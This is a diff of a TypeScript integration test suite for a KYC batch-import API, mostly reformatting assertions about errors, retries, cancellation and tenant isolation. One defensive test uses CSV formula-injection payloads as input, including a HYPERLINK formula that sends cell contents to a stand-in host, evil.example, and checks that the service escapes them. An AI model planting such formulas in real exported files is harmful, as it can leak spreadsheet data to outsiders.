@@ -17,7 +17,13 @@ describe('batch processing', () => {
   before(async () => {
     stack = await startStack({
       workers: true,
-      env: { PROVIDER_RATE_LIMIT_PER_SECOND: '200', BATCH_PROVIDER_MAX_ATTEMPTS: '2', BATCH_PROVIDER_RETRY_INITIAL_MS: '100', BATCH_PAGE_SIZE: '4', BATCH_CONCURRENCY: '3' },
+      env: {
+        PROVIDER_RATE_LIMIT_PER_SECOND: '200',
+        BATCH_PROVIDER_MAX_ATTEMPTS: '2',
+        BATCH_PROVIDER_RETRY_INITIAL_MS: '100',
+        BATCH_PAGE_SIZE: '4',
+        BATCH_CONCURRENCY: '3',
+      },
     });
     ({ apiKey: key, businessId } = await stack.newBusiness());
     donor = donorAt(stack);
@@ -75,7 +81,12 @@ describe('batch processing', () => {
       [10, 'APPLICANT_DATA_REFUSED'],
       [11, 'CARD_PROCESSOR_TOKEN_INVALID'],
     ];
-    assert.deepEqual(Object.keys(byRow).map(Number).sort((a, b) => a - b), expected.map(([r]) => r));
+    assert.deepEqual(
+      Object.keys(byRow)
+        .map(Number)
+        .sort((a, b) => a - b),
+      expected.map(([r]) => r),
+    );
     for (const [row, category] of expected) {
       const e = byRow[row];
       assert.equal(e.errorDetail.category, category);
@@ -90,10 +101,16 @@ describe('batch processing', () => {
     // the approved cardholder: feature, verifier, card processor token, KYC account
     const approved = (await stack.request('GET', `/entity/${approvedId}`, { key })).body;
     assert.equal(approved.verifiedBy, 'sumsub');
-    assert.deepEqual(approved.enabledFeatures.map((f: any) => f.slug), ['card-issuance-api-access']);
+    assert.deepEqual(
+      approved.enabledFeatures.map((f: any) => f.slug),
+      ['card-issuance-api-access'],
+    );
     const [acct] = await stack.db.query('SELECT * FROM kyc_accounts WHERE entity_id = $1', [approvedId]);
     assert.equal(acct!.decision, 'APPROVED');
-    assert.equal((await stack.db.query('SELECT card_processor_public_token FROM entities WHERE id = $1', [approvedId]))[0]!.card_processor_public_token, '123123123');
+    assert.equal(
+      (await stack.db.query('SELECT card_processor_public_token FROM entities WHERE id = $1', [approvedId]))[0]!.card_processor_public_token,
+      '123123123',
+    );
     // resolved by entity id too, with the level of the row
     assert.equal((await stack.db.query('SELECT level_name FROM kyc_accounts WHERE entity_id = $1', [byId]))[0]!.level_name, 'id-and-liveness');
     // the shared applicant without an address is onboarded with a REJECTED decision, and no feature
@@ -101,7 +118,10 @@ describe('batch processing', () => {
     assert.deepEqual(noAddress.enabledFeatures, []);
 
     // one card_issuance_api_access_updated event per onboarded record, in the payload of 2.10
-    const events = await stack.db.query<{ payload: any; entity_id: string }>('SELECT payload, entity_id FROM events WHERE business_id = $1 ORDER BY created_at', [businessId]);
+    const events = await stack.db.query<{ payload: any; entity_id: string }>(
+      'SELECT payload, entity_id FROM events WHERE business_id = $1 ORDER BY created_at',
+      [businessId],
+    );
     assert.equal(events.length, 4);
     const ofNoAddress = events.find((e) => e.entity_id === noAddressId)!.payload;
     assert.equal(ofNoAddress.eventName, 'card_issuance_api_access_updated');
@@ -121,8 +141,20 @@ describe('batch processing', () => {
     assert.equal(csv.status, 200);
     assert.match(csv.headers.get('content-type') ?? '', /text\/csv/);
     const failed = parse(csv.text, { columns: true }) as Record<string, string>[];
-    assert.deepEqual(Object.keys(failed[0]!), ['externalId', 'shareToken', 'applicantLevel', 'cardProcessorPublicToken', 'rowNumber', 'errorCategory', 'errorMessage', 'retryable']);
-    assert.deepEqual(failed.map((f) => f.errorCategory), expected.map(([, c]) => c));
+    assert.deepEqual(Object.keys(failed[0]!), [
+      'externalId',
+      'shareToken',
+      'applicantLevel',
+      'cardProcessorPublicToken',
+      'rowNumber',
+      'errorCategory',
+      'errorMessage',
+      'retryable',
+    ]);
+    assert.deepEqual(
+      failed.map((f) => f.errorCategory),
+      expected.map(([, c]) => c),
+    );
 
     // nothing retryable here
     const retry = await stack.request('POST', `/entity/kyc/import/batch/${res.body.batchId}/retry`, { key });
@@ -167,13 +199,28 @@ describe('batch processing', () => {
     const hostile = ['=HYPERLINK("https://evil.example/?"&B2;"open")', '+1+1', '-2+3', '@SUM(A1)'];
     const tokens = hostile.map((_, i) => `tok-formula-${n}-${i}`);
     n++;
-    const res = await upload(stack, key, csvOf('externalId,shareToken', hostile.map((e, i) => [`"${e.replaceAll('"', '""')}"`, tokens[i]!])));
+    const res = await upload(
+      stack,
+      key,
+      csvOf(
+        'externalId,shareToken',
+        hostile.map((e, i) => [`"${e.replaceAll('"', '""')}"`, tokens[i]!]),
+      ),
+    );
     assert.equal(res.status, 201, res.text);
     await waitForBatch(stack, key, res.body.batchId);
     const csv = await stack.request('GET', `/entity/kyc/import/batch/${res.body.batchId}/failed-rows`, { key });
     const rows = parse(csv.text, { columns: true }) as Record<string, string>[];
-    assert.deepEqual(rows.map((r) => r.externalId), hostile.map((h) => `'${h}`), 'no cell a spreadsheet would run');
-    assert.deepEqual(rows.map((r) => r.shareToken), tokens, 'ordinary cells unchanged');
+    assert.deepEqual(
+      rows.map((r) => r.externalId),
+      hostile.map((h) => `'${h}`),
+      'no cell a spreadsheet would run',
+    );
+    assert.deepEqual(
+      rows.map((r) => r.shareToken),
+      tokens,
+      'ordinary cells unchanged',
+    );
     for (const line of csv.text.split('\n').slice(1).filter(Boolean)) assert.doesNotMatch(line, /^"?[=+\-@]/);
   });
 
@@ -182,14 +229,25 @@ describe('batch processing', () => {
     await createEntities(stack, key, [a, b, ext('never')]);
     const tokens = [await donor.token(), await donor.token()];
     await fetch(`${stack.sim!.url}/_sim/faults`, { method: 'PUT', body: JSON.stringify({ errorRate: 1, pathPattern: 'reusableIdentity' }) });
-    const res = await upload(stack, key, csvOf('externalId,shareToken', [[a, tokens[0]!], [b, tokens[1]!], ['missing-entity', 'tok-missing']]));
+    const res = await upload(
+      stack,
+      key,
+      csvOf('externalId,shareToken', [
+        [a, tokens[0]!],
+        [b, tokens[1]!],
+        ['missing-entity', 'tok-missing'],
+      ]),
+    );
     let status = await waitForBatch(stack, key, res.body.batchId);
     assert.equal(status.status, 'completed');
-    assert.deepEqual(status.summary.errors.map((e: any) => [e.rowNumber, e.errorDetail.category, e.errorDetail.retryable]), [
-      [2, 'PROVIDER_UNAVAILABLE', true],
-      [3, 'PROVIDER_UNAVAILABLE', true],
-      [4, 'ENTITY_NOT_FOUND', false],
-    ]);
+    assert.deepEqual(
+      status.summary.errors.map((e: any) => [e.rowNumber, e.errorDetail.category, e.errorDetail.retryable]),
+      [
+        [2, 'PROVIDER_UNAVAILABLE', true],
+        [3, 'PROVIDER_UNAVAILABLE', true],
+        [4, 'ENTITY_NOT_FOUND', false],
+      ],
+    );
     await fetch(`${stack.sim!.url}/_sim/faults`, { method: 'PUT', body: '{}' });
     const retry = await stack.request('POST', `/entity/kyc/import/batch/${res.body.batchId}/retry`, { key });
     assert.equal(retry.status, 202, retry.text);
@@ -199,7 +257,10 @@ describe('batch processing', () => {
     assert.equal(status.summary.successfulRecords, 2);
     assert.equal(status.failedRecords, 1);
     assert.equal(status.processedRecords, 3);
-    assert.deepEqual(status.summary.errors.map((e: any) => e.errorDetail.category), ['ENTITY_NOT_FOUND']);
+    assert.deepEqual(
+      status.summary.errors.map((e: any) => e.errorDetail.category),
+      ['ENTITY_NOT_FOUND'],
+    );
   });
 
   it('cancels a running batch: status canceled, rows not reached left unprocessed, a second cancel refused', async () => {
@@ -208,7 +269,14 @@ describe('batch processing', () => {
     const tokens = await donor.tokens(30);
     await fetch(`${stack.sim!.url}/_sim/faults`, { method: 'PUT', body: JSON.stringify({ latencyMs: 300, pathPattern: 'reusableIdentity' }) });
     try {
-      const res = await upload(stack, key, csvOf('externalId,shareToken', ids.map((e, i) => [e, tokens[i]!])));
+      const res = await upload(
+        stack,
+        key,
+        csvOf(
+          'externalId,shareToken',
+          ids.map((e, i) => [e, tokens[i]!]),
+        ),
+      );
       for (;;) {
         const s = (await stack.request('GET', `/entity/kyc/import/batch/${res.body.batchId}`, { key })).body;
         if (s.status === 'in_progress') break;
@@ -240,7 +308,14 @@ describe('batch processing', () => {
     us.secretKey = 'rotated-at-the-provider';
     let res;
     try {
-      res = await upload(stack, key, csvOf('externalId,shareToken', ids.map((e, i) => [e, tokens[i]!])));
+      res = await upload(
+        stack,
+        key,
+        csvOf(
+          'externalId,shareToken',
+          ids.map((e, i) => [e, tokens[i]!]),
+        ),
+      );
       const failed = await waitForBatch(stack, key, res.body.batchId);
       assert.equal(failed.status, 'failed');
       assert.match(failed.failureReason, /refused our credentials/);
@@ -265,7 +340,8 @@ describe('batch processing', () => {
       assert.equal(other.status, 404);
       assert.deepEqual([other.body.code, other.body.parameter], ['0701020100', 'batchId']);
     }
-    for (const action of ['cancel', 'retry']) assert.equal((await stack.request('POST', `/entity/kyc/import/batch/${res.body.batchId}/${action}`, { key: otherKey })).status, 404);
+    for (const action of ['cancel', 'retry'])
+      assert.equal((await stack.request('POST', `/entity/kyc/import/batch/${res.body.batchId}/${action}`, { key: otherKey })).status, 404);
     assert.equal((await stack.request('GET', '/entity/kyc/import/batch/7b0b7d8e-35f5-4f4f-9f57-2f1f1c1c1c1c', { key })).status, 404);
     const bad = await stack.request('GET', '/entity/kyc/import/batch/not-a-uuid', { key });
     assert.deepEqual([bad.status, bad.body.parameter], [400, 'batchId']);
